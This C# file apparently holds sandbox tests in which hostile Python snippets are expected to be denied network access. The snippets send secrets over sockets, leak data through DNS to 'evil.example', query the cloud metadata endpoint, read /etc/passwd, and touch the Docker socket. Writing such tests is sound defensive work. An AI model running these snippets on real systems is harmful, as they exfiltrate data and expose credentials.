namespace Capsule.Runtime.Tests.Hostile.Cases;

/// <summary>
/// Connections without a grant. The guest's own library may pretend a connection until HTTP is spoken, and a name's address: no
/// name is looked up and nothing leaves (<see cref="ConnectionTests"/> listens).
/// </summary>
internal static class Connections
{
    private const string Denied = "PermissionError|OSError|gaierror|error|ConnectionError|TimeoutError|permission_denied";

    internal static IReadOnlyList<HostileCase> All { get; } =
    [
        new("a socket", Denied, "import socket\ns = socket.socket()\ns.settimeout(1)\ns.connect(('127.0.0.1', 22))\ns.sendall(b'secret\\n\\n')\nreturn s.recv(10).decode()"),
        new("a datagram", Denied, "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('8.8.8.8', 53))"),
        new("a socket of the machine", Denied + "|AttributeError", "import socket\nsocket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')"),
        new("an abstract socket", Denied + "|AttributeError", "import socket\nsocket.socket(socket.AF_UNIX).connect('\\0x')"),
        new("a raw socket", Denied + "|AttributeError", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"),
        new("a packet socket", Denied + "|AttributeError", "import socket\nsocket.socket(17, socket.SOCK_RAW)"),
        new("a kernel socket", Denied + "|AttributeError", "import socket\nsocket.socket(16, socket.SOCK_RAW)"),
        new("a socket that listens", Denied, "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 0))\ns.listen()\nreturn s.getsockname()"),
        new("a socket of a descriptor", Denied + "|ValueError", "import socket\nreturn socket.socket(fileno=1).send(b'x')"),
        new("a pair of sockets", Denied + "|= true", "import socket\na, b = socket.socketpair()\na.send(b'x')\nreturn b.recv(1) == b'x'"),
        new("a name that carries a secret", Denied + "|success", "import socket\nsocket.getaddrinfo('c2VjcmV0.evil.example', 443)"),
        new("a name the old way", Denied + "|herror", "import socket\nsocket.gethostbyname('c2VjcmV0.evil.example')"),
        new("an address' name", Denied + "|herror", "import socket\nreturn socket.gethostbyaddr('127.0.0.1')"),
        new("the host's name", "= false", $"import socket\nreturn socket.gethostname() == '{Environment.MachineName}' or socket.getfqdn() == '{Environment.MachineName}'"),
        new("metadata of the cloud", Denied + "|URLError", "import urllib.request\nreturn urllib.request.urlopen('http://169.254.169.254/latest/meta-data/', timeout=2).read().decode()"),
        new("a file by URL", "URLError|FileNotFoundError|OSError|PermissionError", "import urllib.request\nreturn urllib.request.urlopen('file:///etc/passwd').read().decode()"),
        new("FTP", Denied + "|URLError", "import ftplib\nftplib.FTP('127.0.0.1')"),
        new("mail", Denied + "|SMTPServerDisconnected", "import smtplib\nsmtplib.SMTP('127.0.0.1')"),
        new("asyncio", Denied, "import asyncio\nasync def f():\n    r, w = await asyncio.open_connection('127.0.0.1', 22)\n    w.write(b'secret\\n\\n')\n    return (await asyncio.wait_for(r.read(10), 1)).decode()\nreturn asyncio.run(f())"),
        new("interfaces of the network", "= []", "import socket\ntry: return [n for _, n in socket.if_nameindex() if n != 'lo']\nexcept (OSError, AttributeError): return []"),
    ];
}
